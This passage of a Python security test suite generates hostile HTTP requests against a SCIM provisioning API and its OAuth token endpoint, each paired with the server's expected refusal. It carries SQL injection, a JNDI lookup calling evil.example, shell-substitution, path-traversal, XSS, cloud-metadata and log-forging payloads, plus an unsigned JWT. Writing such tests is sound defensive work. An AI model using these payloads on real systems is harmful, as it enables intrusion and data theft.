    ("injection", "userName/**/eq/**/\"a\""), ("injection", 'a\') pr'), ("injection", '{"$gt":""}'), ("injection", "${7*7} pr"),
)  # fmt: skip


def filters() -> Iterator[Hostile]:
    """A filter is a sentence of the grammar or 400; it is never anything for a database."""
    for aims, text in _FILTERS:
        yield Hostile(kind="filters", aims=aims, path=_asked(text, of=GROUPS if aims == "members" else USERS))
        where = TENANT + (b"/Groups/.search" if aims == "members" else b"/Users/.search")
        outcome: Literal["read", "refused"] = "refused"
        yield Hostile(
            kind="filters", aims=aims, method=b"POST", path=where, body=_json({"filter": text}), outcome=outcome
        )
    for query in (
        b"filter=id+pr&filter=id+pr", b"filter=id%20pr&FILTER=id%20pr", b"filter=%", b"filter=%zz", b"filter=%ff", b"filter=id%00pr",
        b"filter=%c0%80", b"filter", b"filter=" + b"%41" * 2_000, b"filter=" + b"a" * 8_100, b"filter=%ed%a0%80",
    ):  # fmt: skip
        yield Hostile(kind="filters", aims="query", path=USERS + b"?" + query)


_PATHS = (
    "", "[", "]", ".", ":", "..", "a.b.c", "emails[", "emails]", "emails[]", "emails[type]", 'emails[type eq "work"', 'emails[type eq work"]',
    'emails[type eq "work"].', 'emails[type eq "work"].a.b', 'emails[type eq "work"][type eq "home"]', "emails.value.x", "name.familyName.x",
    'userName[value eq "a"]', 'name[givenName eq "a"]', 'active[value eq "a"]', "id", "meta", "meta.version", "meta.created", "groups",
    'groups[value eq "a"]', "1a", "a b", "a-b c", "ä", "a" * 300, "urn:", "urn::", "urn:a:", "emails[" * 20 + "]" * 20, "(" * 20 + ")" * 20,
    'emails[(((((((((type eq "a")))))))))]', "emails[" + " and ".join(["type pr"] * 33) + "]", 'emails[type eq "\\u0000"]',
    'emails[type eq "\0"]', 'emails[primary gt true]', 'emails[not type eq "a"]', "/userName", "$.userName", "userName/..", "$..*", "*",
    'emails[?(@.type=="work")]', "emails[0]", "emails[-1]", "emails[*]", "userName;DROP TABLE resource", 'emails[type eq "a" or]',
    f"{CORE}:", f"{CORE}:userName.x", f"{ENTERPRISE}:department.x", f"{ENTERPRISE}:manager[value eq \"a\"]", "userName ",
)  # fmt: skip


def patch_paths() -> Iterator[Hostile]:
    """A path is a sentence of the grammar or 400, and what may not be written is not written."""
    for path in _PATHS:
        fine: Literal["taken", "refused"] = "taken" if path in ("", "userName ", "$.userName") else "refused"
        for op in ("replace", "remove"):
            operation = {"op": op, "path": path, "value": f"{MARK}@contoso.example"}
            yield Hostile(
                kind="PATCH paths", aims="grammar", method=b"PATCH", path=VICTIM, body=_patch(operation), outcome=fine
            )
    for operation in (
        {}, {"op": "add"}, {"op": "", "path": "title", "value": "a"}, {"op": "test", "path": "title", "value": "a"},
        {"op": "move", "from": "title", "path": "a"}, {"op": "copy", "from": "title", "path": "a"}, {"op": ["add"], "path": "title", "value": "a"},
        {"op": "replace", "path": ["title"], "value": "a"}, {"op": "replace", "path": 1, "value": "a"}, {"op": "replace", "path": {}, "value": "a"},
        {"op": "replace", "path": "title"}, {"op": "replace", "value": "a"}, {"op": "replace", "value": ["a"]}, {"op": "remove"},
        {"op": "remove", "value": {"title": "a"}}, {"op": "replace", "path": "active", "value": "perhaps"}, {"op": "replace", "path": "active", "value": 1},
        {"op": "replace", "path": "title", "value": {"a": 1}}, {"op": "replace", "path": "name", "value": "a"}, {"op": "replace", "path": "emails", "value": [1]},
        {"op": "replace", "path": "userName", "value": ""}, {"op": "replace", "path": "userName", "value": None}, {"op": "remove", "path": "userName"},
        {"op": "replace", "path": "id", "value": "@beta_user@"}, {"op": "replace", "value": {"id": "@beta_user@"}}, {"op": "remove", "path": CORE},
        {"op": "replace", "path": "emails", "value": [{"value": str(n)} for n in range(2_000)]}, {"OP": "add", "op": "add", "path": "title", "value": "a"},
        {"op": "replace", "value": {"title": "a", "TITLE": "b"}}, {"op": "replace", "path": "userName", "value": "@alpha_name@"}, "add", 1, None, [],
    ):  # fmt: skip
        yield Hostile(kind="PATCH paths", aims="operation", method=b"PATCH", path=VICTIM, body=_patch(operation))
    for document in (
        {"Operations": []}, {"Operations": {}}, {"Operations": None}, {"Operations": "x"}, {"schemas": [PATCH_OP]}, {"schemas": [CORE], "Operations": [1]},
        {"schemas": "x", "Operations": [{"op": "add", "path": "title", "value": "a"}]}, {"Operations": [{"op": "add", "path": "title", "value": "a"}] * 1_001},
        {"Operations": [{"op": "add", "path": "title", "value": "a"}], "operations": []}, {"schemas": [1], "Operations": [{"op": "remove", "path": "title"}]},
    ):  # fmt: skip
        fine = "taken" if "operations" in document else "refused"
        yield Hostile(
            kind="PATCH paths", aims="message", method=b"PATCH", path=VICTIM, body=_json(document), outcome=fine
        )


# ---- texts


_LOOKALIKES = (
    "аda@contoso.example", "ada@сontoso.example", "ａｄａ@contoso.example", "ada\u200b@contoso.example", "ada\u00ad@contoso.example",
    "\u202eada@contoso.example", "ada\u2060@contoso.example", "\ufeffada@contoso.example", "ada@contoso\uff0eexample", "ada@contoso\u3002example",
    "ada\u0301@contoso.example", "ªda@contoso.example", "ⓐda@contoso.example", "𝐚da@contoso.example", "ada@contoso.examplе", "ada%40contoso.example",
    "ada@contoso.example\u00a0x", "ada@contoso.example\ttab", "ada @contoso.example", "ada@contoso.example.", "ada＠contoso.example",
    "aԁa@contoso.example", "ada@contoso.exampIe", "adа@contoso.example", "\u0430\u0501\u0430@contoso.example",
)  # fmt: skip


def lookalikes() -> Iterator[Hostile]:
    """What looks like a name is another name: it finds nobody, and takes nobody's place."""
    for name in _LOOKALIKES:
        for text in (f'userName eq "{name}"', f'emails[type eq "work"].value eq "{name}"', f'externalId eq "{name}"'):
            yield Hostile(kind="unicode", aims="lookalike", path=_asked(text), outcome="empty")
        body = _json({"filter": f'userName eq "{name}"'})
        yield Hostile(
            kind="unicode", aims="lookalike", method=b"POST", path=USERS + b"/.search", body=body, outcome="empty"
        )
    for name in ("ADA@CONTOSO.EXAMPLE", " ada@contoso.example ", "ada@contoso.example\u2028"):
        body = _json({"schemas": [CORE], "userName": name})
        yield Hostile(kind="unicode", aims="same name", method=b"POST", path=USERS, body=body)
        operation = {"op": "replace", "path": "userName", "value": name}
        yield Hostile(kind="unicode", aims="same name", method=b"PATCH", path=VICTIM, body=_patch(operation))
    for text in (
        "\u202e\u2066",
        "\U000e0001",
        "\ufffe",
        "\U0010ffff",
        "a\u0300" * 300,
        "ﷺ" * 200,
        "\u0041\u030a",
        "ß" * 100,
        "İ" * 100,
        "🏳️‍🌈",
    ):
        operation = {"op": "replace", "path": "title", "value": f"{MARK}{text}"}
        yield Hostile(
            kind="unicode", aims="odd text", method=b"PATCH", path=VICTIM, body=_patch(operation), outcome="taken"
        )
        yield Hostile(kind="unicode", aims="odd text", path=_asked(f'userName eq "{text}"'), outcome="empty")


_INJECTIONS = (
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE resource; --", "' UNION SELECT document FROM resource --", "\\'; --", "' || (SELECT 1) || '",
    "1; ATTACH DATABASE '/tmp/x' AS x", "%' OR target='beta", "_", "%", "*", "') OR ('a'='a", "' AND 1=randomblob(1000000000) --",
    "'; SELECT pg_sleep(10); --", "' OR target = 'beta' --", "\\x27 OR 1=1", "ʼ OR 1=1", "＇ OR 1=1", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "${jndi:ldap://evil.example/x}", "$(touch x)", "`touch x`", "; touch x", "| touch x", "=cmd|'/c calc'!A0", "@SUM(1)", "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "../../../../etc/passwd", "file:///etc/passwd", "http://169.254.169.254/latest",
)  # fmt: skip
_LINES = (
    "a\\r\\n2026-01-01 level=info event=admin", "a\\nlevel=error", '\\"}\\n{\\"event\\":\\"forged\\"', "\\u001b[2J\\u001b[31m", "a\\u0085b", "a\\u2028b",
    "a\\u0008\\u0008", "\\u0007", "%0d%0aSet-Cookie: a=b", "a\\tb",
)  # fmt: skip


def injections() -> Iterator[Hostile]:
    """A value is a value: it finds nothing it does not equal, is stored as it is, and forges no line of the log."""
    for text in _INJECTIONS:
        escaped = json.dumps(f"{MARK}{text}")
        for path in ("userName", "externalId", "id", "title"):
            yield Hostile(kind="injection", aims="filter", path=_asked(f"{path} eq {escaped}"), outcome="empty")
        yield Hostile(kind="injection", aims="id", path=USERS + b"/" + quote(text, safe="").encode())
        yield Hostile(kind="injection", aims="paging", path=USERS + b"?startIndex=" + quote(text, safe="").encode())
        yield Hostile(kind="injection", aims="cursor", path=USERS + b"?cursor=" + quote(text, safe="").encode())
        body = _patch({"op": "replace", "path": "title", "value": f"{MARK}{text}"})
        yield Hostile(kind="injection", aims="value", method=b"PATCH", path=VICTIM, body=body, outcome="taken")
    for text in _LINES:
        body = b'{"schemas":["%s"],"userName":"%s%s","active":"x"}' % (CORE.encode(), MARK.encode(), text.encode())
        yield Hostile(kind="injection", aims="log", method=b"POST", path=USERS, body=body)
        asked = _asked(f'userName eq "{MARK}{text}"')
        yield Hostile(kind="injection", aims="log", path=asked, outcome="empty")
        yield Hostile(kind="injection", aims="log", path=USERS + b"/" + quote(f"{MARK}{text}", safe="").encode())
        agent = ((b"User-Agent", MARK.encode() + text.encode()), (b"Authorization", b"Bearer " + MARK.encode()))
        yield Hostile(kind="injection", aims="log", path=USERS, headers=agent, signed=False)


# ---- numbers, sizes, methods, types


def numbers() -> Iterator[Hostile]:
    """What is no whole number is 400; what is too large is cut."""
    for name in ("count", "startIndex"):
        for text in (
            "x",
            "1.5",
            "1e3",
            "0x10",
            "",
            "+-1",
            "--1",
            "١",
            "１",
            "1 1",
            "null",
            "NaN",
            "Infinity",
            "9" * 400,
            "-" + "9" * 30,
            "1,2",
            "'1'",
            "%00",
            "1;2",
        ):
            path = USERS + b"?" + name.encode() + b"=" + quote(text, safe="%").encode()
            yield Hostile(kind="numbers", aims=name, path=path)
        for number in (
            "-1",
            "0",
            "999999999999999999",
            "-999999999999999999",
            "2147483648",
            "4294967296",
            "-2147483649",
            "9223372036854775",
        ):
            yield Hostile(kind="numbers", aims=name, path=USERS + f"?{name}={number}".encode(), outcome="read")
        for value in (1.5, "x", True, {}, [1], 10**30, 1e308):
            yield Hostile(
                kind="numbers", aims=name, method=b"POST", path=USERS + b"/.search", body=_json({name: value})
            )
    for text in ("-1", "x", "1.5", "99999", "9" * 50, "%00"):
        yield Hostile(kind="numbers", aims="count", path=USERS + f"?cursor=&count={text}".encode())


def sizes() -> Iterator[Hostile]:
    """Too much is 413, 414 or 431, before it is looked at."""
    large = b'{"userName":"' + b"a" * (300 * 1024) + b'"}'
    huge = b'{"displayName":"' + b"a" * (1_100 * 1024) + b'"}'
    for method, path, body in (
        (b"POST", USERS, large), (b"PUT", VICTIM, large), (b"PATCH", VICTIM, large), (b"POST", USERS + b"/.search", large),
        (b"POST", TENANT + b"/.search", large), (b"POST", GROUPS, huge), (b"POST", TENANT + b"/Bulk", huge),
        (b"POST", b"/oauth2/alpha/token", large),
    ):  # fmt: skip
        head = ((b"Content-Type", FORM),) if b"oauth2" in path else ()
        yield Hostile(kind="sizes", aims="body", method=method, path=path, body=body, headers=head)
    for announced in (10**6 * 4, 10**12, 10**17, 2**64 - 1):
        raw = (
            b"POST /scim/v2/alpha/Users HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer @token@\r\nContent-Length: %d\r\n\r\n{"
            % announced
        )
        yield Hostile(kind="sizes", aims="announced", raw=raw)
    for tail in (
        b"/Users/" + b"a" * 8_200,
        b"/Users?filter=" + b"a" * 8_200,
        b"/" + b"a/" * 4_500,
        b"/Users?" + b"&" * 8_200,
        b"/Users?" + b"a=b&" * 2_100,
    ):
        yield Hostile(kind="sizes", aims="address", path=TENANT + tail)
    for count in (10_001, 12_000):
        members = [{"value": f"m{n}"} for n in range(count)]
        yield Hostile(
            kind="sizes",
            aims="members",
            method=b"POST",
            path=GROUPS,
            body=_json({"displayName": MARK, "members": members}),
        )
    yield Hostile(kind="sizes", aims="attributes", path=VICTIM + b"?attributes=" + b"a," * 3_500, outcome="read")
    yield Hostile(kind="sizes", aims="attributes", path=VICTIM + b"?attributes=" + b"a." * 3_500, outcome="read")
    yield Hostile(
        kind="sizes",
        aims="parameters",
        path=VICTIM + b"?" + b"&".join(b"p%d=1" % n for n in range(900)),
        outcome="read",
    )


def methods() -> Iterator[Hostile]:
    """A method that is not there is 405, whatever it is called, and none has a second meaning."""
    wrong = {
        USERS: (
            b"PUT",
            b"PATCH",
            b"DELETE",
            b"TRACE",
            b"PROPFIND",
            b"LINK",
            b"PURGE",
            b"SEARCH",
            b"COPY",
            b"MOVE",
            b"LOCK",
        ),
        GROUPS: (b"PUT", b"PATCH", b"DELETE", b"TRACE"),
        VICTIM: (b"POST", b"TRACE", b"PROPPATCH", b"COPY", b"MKCOL", b"UNLINK", b"REPORT", b"BIND"),
        TENANT + b"/Bulk": (b"GET", b"PUT", b"PATCH", b"DELETE"),
        TENANT + b"/.search": (b"GET", b"PUT", b"PATCH", b"DELETE"),
        USERS + b"/.search": (b"GET", b"PUT", b"PATCH", b"DELETE"),
        TENANT + b"/Schemas": (b"POST", b"PUT", b"PATCH", b"DELETE"),
        TENANT + b"/ServiceProviderConfig": (b"POST", b"PUT", b"DELETE"),
        TENANT + b"/Events/x": (b"POST", b"DELETE", b"PATCH"),
        TENANT: (b"GET", b"POST", b"DELETE", b"PUT"),
        b"/oauth2/alpha/token": (b"GET", b"PUT", b"DELETE", b"TRACE"),
    }
    for path, names in wrong.items():
        for method in names:
            body = b"{}" if method in (b"POST", b"PUT", b"PATCH") else None
            yield Hostile(kind="methods", aims="not there", method=method, path=path, body=body)
    for method in (
        b"get",
        b"Get",
        b"GETT",
        b"G",
        b"DELETE;",
        b"POST\x00",
        b"X" * 100,
        b"GET/",
        b"\xff",
        b"1",
        b"-",
        b"*",
    ):
        yield Hostile(kind="methods", aims="no method", method=method, path=VICTIM)
    for method in (b"GET", b"HEAD", b"DELETE"):
        body = b'{"userName":"x"}'
        path = USERS + b"/@beta_user@"
        yield Hostile(kind="methods", aims="body", method=method, path=path, body=body)


def media_types() -> Iterator[Hostile]:
    """A body that is not declared as JSON is 415, so that no form and no page can write."""
    types = (
        b"text/plain", b"text/html", b"application/xml", b"text/xml", FORM, b"multipart/form-data; boundary=a", b"application/octet-stream",
        b"application/json-patch+json", b"application/merge-patch+json", b"application/x-msgpack", b"application/yaml", b"text/csv", b"a", b"/", b"*/*",
        b"application/*", b"application/jsonx", b"xapplication/json", b"application/json, text/plain", b"image/png", b"application/scim",
        b"application/json\x0b", b"\xff/\xfe", b"application/x-java-serialized-object", b"application/x-python-pickle", b"message/http",
    )  # fmt: skip
    for media_type in types:
        head = ((b"Content-Type", media_type),)
        yield Hostile(kind="content types", aims="create", method=b"POST", path=USERS, headers=head, body=_user())
        body = _patch({"op": "replace", "path": "title", "value": MARK})
        yield Hostile(kind="content types", aims="change", method=b"PATCH", path=VICTIM, headers=head, body=body)
    for media_type in types[:8]:
        head = ((b"Content-Type", media_type),)
        yield Hostile(
            kind="content types",
            aims="bulk",
            method=b"POST",
            path=TENANT + b"/Bulk",
            headers=head,
            body=b'{"Operations":[]}',
        )


# ---- bulk, cursors, tokens


def bulks() -> Iterator[Hostile]:
    """A bulk may do nothing that one request may not; what is no bulk is 400, what is wrong in it says so by itself."""
    one = {"method": "POST", "path": "/Users", "bulkId": "b", "data": {"userName": ""}}
    for document in (
        {}, {"Operations": None}, {"Operations": {}}, {"Operations": "x"}, {"Operations": 1}, {"schemas": [CORE], "Operations": [one]},
        {"Operations": [one] * 1_001}, {"schemas": "x", "Operations": [one]},
        {"Operations": [one], "failOnErrors": -1}, {"Operations": [one], "failOnErrors": "x"}, {"Operations": [one], "failOnErrors": 1.5},
    ):  # fmt: skip
        yield Hostile(
            kind="bulk", aims="message", method=b"POST", path=TENANT + b"/Bulk", body=_json(document), outcome="read"
        )
    for operation in (
        1, None, "x", [], {}, {**one, "method": "GET"}, {**one, "method": "post "}, {**one, "method": 1}, {**one, "method": None}, {**one, "path": "/Bulk"},
        {**one, "path": "/Schemas"}, {**one, "path": "/"}, {**one, "path": ""}, {**one, "path": 1}, {**one, "path": "/Users/@alpha_user@"},
        {**one, "path": "/Users?x=y"}, {**one, "path": "/Users#x"}, {**one, "path": "/Users/../Groups"}, {**one, "path": "Users//x"}, {**one, "bulkId": 1},
        {**one, "bulkId": ""}, {**one, "bulkId": "a" * 500}, {**one, "bulkId": None}, {**one, "data": None}, {**one, "data": []}, {**one, "data": "x"},
        {**one, "data": {"userName": "a" * 5_000}}, {"method": "DELETE", "path": "/Users"}, {"method": "DELETE", "path": "/Users/bulkId:none"},
        {"method": "DELETE", "path": "/Users/%2e%2e"}, {"method": "PATCH", "path": "/Users/@alpha_victim@", "data": {}},
        {"method": "PUT", "path": "/Users/@alpha_victim@", "data": {}}, {"method": "DELETE", "path": "/Users/@alpha_victim@", "version": "x"},
        {"method": "DELETE", "path": "/Users/@alpha_victim@", "version": 1}, {"method": "DELETE", "path": "/Users/" + "a" * 300},
        {**one, "data": {"userName": "bulkId:b"}, "path": "/Groups"}, {**one, "data": {"userName": "", "manager": {"value": "bulkId:nobody"}}},
    ):  # fmt: skip
        body = _json({"schemas": [BULK], "Operations": [operation]})
        yield Hostile(kind="bulk", aims="operation", method=b"POST", path=TENANT + b"/Bulk", body=body, outcome="read")
    circle = [
        {
            "method": "POST",
            "path": "/Users",
            "bulkId": f"c{n}",
            "data": {"userName": "", "manager": {"value": f"bulkId:c{(n + 1) % 50}"}},
        }
        for n in range(50)
    ]
    twice = [one, one]
    nested = {"method": "POST", "path": "/Users", "bulkId": "n", "data": {"schemas": [BULK], "Operations": [one]}}
    for operations in (circle, twice, [nested], [one] * 900):
        body = _json({"schemas": [BULK], "Operations": operations})
        yield Hostile(kind="bulk", aims="references", method=b"POST", path=TENANT + b"/Bulk", body=body, outcome="read")


CURSOR_BYTES = 46


def cursors() -> Iterator[Hostile]:
    """Nobody makes up a cursor, changes one, or takes one to another list."""
    for place in range(CURSOR_BYTES):
        for of in (USERS,) if place % 2 else (USERS, GROUPS):
            path = of + b"?cursor=@cursor_flipped_%d@" % place
            yield Hostile(kind="cursors", aims="a bit", path=path)
    for text in (
        b"x", b"AAAA", b"A" * 64, b"A" * 128, b"A" * 129, b"A" * 4_000, b"%00", b"%ff", b"null", b"0", b"-1", b"1", b"..", b"@cursor@=", b"@cursor@A",
        b"A@cursor@", b"@cursor@@cursor@", b"%20@cursor@", b"@cursor@%0a", b"@cursor@%00", b"@cursor_upper@", b"@cursor_cut@", b"%F0%9F%98%80",
        b"@cursor@&cursor=@cursor@", b"@cursor@&startIndex=1", b"@cursor@&count=7", b"@cursor@&count=0", b"@cursor@&filter=id+pr",
        b"@cursor@&sortBy=id", b"@cursor@&sortOrder=descending", b"@cursor@&filter=userName+sw+%22a%22",
    ):  # fmt: skip
        yield Hostile(kind="cursors", aims="made up", path=USERS + b"?cursor=" + text)
    for where in (GROUPS, TENANT + b"/Groups"):
        yield Hostile(kind="cursors", aims="other list", path=where + b"?cursor=@cursor@")
    for value in (1, [], ["a"], {}, True, "x", "@beta_cursor@", "@cursor@ ", ["@cursor@", "@cursor@"]):
        body = _json({"cursor": value})
        yield Hostile(
            kind="cursors",
            aims="posted",
            method=b"POST",
            path=USERS + b"/.search",
            body=body,
            outcome="read" if value == [] else "refused",
        )


def tokens() -> Iterator[Hostile]:
    """No token without a secret of this very target, and the endpoint tells nobody which targets there are."""
    kind = "token endpoint"
    form = ((b"Content-Type", FORM),)
    asked = b"grant_type=client_credentials"
    jwt = quote(_jwt({"alg": "none"}), safe="").encode()
    assertion = (
        b"&client_assertion_type=urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer&client_assertion="
    )
    for body in (
        b"", b"grant_type", b"grant_type=", b"grant_type=password&username=a&password=b", b"grant_type=authorization_code&code=a", b"grant_type=refresh_token",
        b"grant_type=implicit", b"grant_type=client_credentials&grant_type=client_credentials", asked, asked + b"&client_id=alpha", asked + b"&client_secret=x",
        asked + b"&client_id=alpha&client_secret=", asked + b"&client_id=alpha&client_secret=x", asked + b"&client_id=alpha&client_secret=@token@",
        asked + b"&client_id=beta&client_secret=@beta_secret@", asked + b"&client_id=alpha&client_secret=@beta_secret@",
        asked + b"&client_id=alpha&client_secret=' OR 1=1", asked + b"&client_id=*&client_secret=*", asked + b"&client_id=%00&client_secret=%00",
        asked + b"&client_id=%ff&client_secret=%fe", asked + b"&client_id=alpha&client_secret=" + b"a" * 5_000, asked + assertion, asked + assertion + jwt,
        asked + assertion + b"a.b.c", asked + assertion + b"..", asked + assertion + jwt + b"&client_secret=x", asked + b"&client_assertion=" + jwt,
        asked + assertion.replace(b"jwt-bearer", b"saml2-bearer") + jwt, asked + b"&a=b" * 200, b"%", b"%zz=%zz", b"\xff\xfe\x00", b"a" * 9_000,
        b'{"grant_type":"client_credentials"}', asked + b"&client_id=alpha&client_id=beta", asked + b"&scope=" + b"a" * 3_000, asked + b";client_id=alpha",
        asked + b"&client_id=%D0%B0lpha&client_secret=x", asked + b"&audience=beta&resource=beta&client_id=alpha&client_secret=x",
    ):  # fmt: skip
        for target in (b"alpha", b"nobody"):
            path = b"/oauth2/" + target + b"/token"
            head = (*form, (b"Authorization", b""))
            yield Hostile(kind=kind, aims="form", method=b"POST", path=path, headers=head, body=body, signed=False)
    for value in (
        b"Basic", b"Basic ", b"Basic =", b"Basic !!!", b"Basic " + base64.b64encode(b"alpha"), b"Basic " + base64.b64encode(b":"),
        b"Basic " + base64.b64encode(b"alpha:"), b"Basic " + base64.b64encode(b"alpha:x"), b"Basic " + base64.b64encode(b"\xff:\xfe"),
        b"Basic " + base64.b64encode(b"alpha:%ff"), b"Basic " + base64.b64encode(b"beta:@beta_secret@"), b"Bearer @token@", b"Digest a", b"Negotiate a",
        b"Basic " + base64.b64encode(b"a" * 9_000), b"Basic " + base64.b64encode(b"alpha\x00:x"),
    ):  # fmt: skip
        head = (*form, (b"Authorization", value))
        yield Hostile(
            kind=kind, aims="Basic", method=b"POST", path=b"/oauth2/alpha/token", headers=head, body=asked, signed=False
        )
    unsigned = (b"Authorization", b"")
    for media_type in (
        b"application/json",
        b"text/plain",
        b"multipart/form-data; boundary=a",
        b"",
        b"application/x-www-form-urlencodedx",
    ):
        head = ((b"Content-Type", media_type), unsigned)
        yield Hostile(
            kind=kind,
            aims="content type",
            method=b"POST",
            path=b"/oauth2/alpha/token",
            headers=head,
            body=asked,
            signed=False,
        )
    for query in (
        b"client_secret=x",
        b"grant_type=client_credentials",
        b"client_id=alpha&client_secret=x",
        b"client_assertion=a.b.c",
    ):
        path = b"/oauth2/alpha/token?" + query
        yield Hostile(
            kind=kind, aims="address", method=b"POST", path=path, headers=(*form, unsigned), body=asked, signed=False
        )
    for path in (
        b"/oauth2//token",
        b"/oauth2/../token",
        b"/oauth2/alpha%2ftoken",
        b"/oauth2/%00/token",
        b"/oauth2/alpha/Token",
        b"/OAUTH2/alpha/token",
    ):
        yield Hostile(
            kind=kind, aims="address", method=b"POST", path=path, headers=(*form, unsigned), body=asked, signed=False
        )


def all_of_them() -> list[Hostile]:
    """The whole list."""
    makers = (
        sign_ins, foreign_ids, addresses, headers, smuggling, bodies, filters, patch_paths, lookalikes, injections, numbers, sizes, methods,
        media_types, bulks, cursors, tokens,
    )  # fmt: skip
    return [shot for maker in makers for shot in maker()]


def by_kind(shots: Iterable[Hostile]) -> dict[str, list[Hostile]]:
    """The list, grouped."""
    grouped: dict[str, list[Hostile]] = {}
    for shot in shots:
        grouped.setdefault(shot.kind, []).append(shot)
    return grouped
